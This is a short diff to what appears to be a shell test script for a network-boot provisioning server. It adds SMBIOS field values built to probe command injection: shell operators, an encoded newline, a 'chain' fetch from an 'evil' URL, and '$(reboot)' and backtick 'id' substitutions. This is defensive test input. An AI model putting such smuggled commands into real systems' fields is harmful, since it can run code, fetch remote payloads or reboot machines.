@@ -14,7 +14,8 @@ lab_server 'profile lab {
 	crashkernel = "192M"
 }
 rule { mac = "52:54:00:*" profile = "lab" }'
-lab_machine m -smbios 'type=1,manufacturer=Acme && echo #1 "quoted" || exit,product=${net0/mac} ; shell & a=b?c%0aexit,serial=x" || chain http://10.0.2.2/evil,asset=$(reboot)'
+# shellcheck disable=SC2016 # that is the point
+lab_machine m -smbios 'type=1,manufacturer=Acme && echo #1 "quoted" || exit,product=${net0/mac} ; shell & a=b?c%0aexit,serial=x" || chain http://10.0.2.2/evil' -smbios 'type=3,asset=$(reboot)`id`'
 lab_event ' requested ' 60 || { done_testing; }
 session=$(lab_session ' requested ')
 lab_event " running $session " 90 "the machine runs"
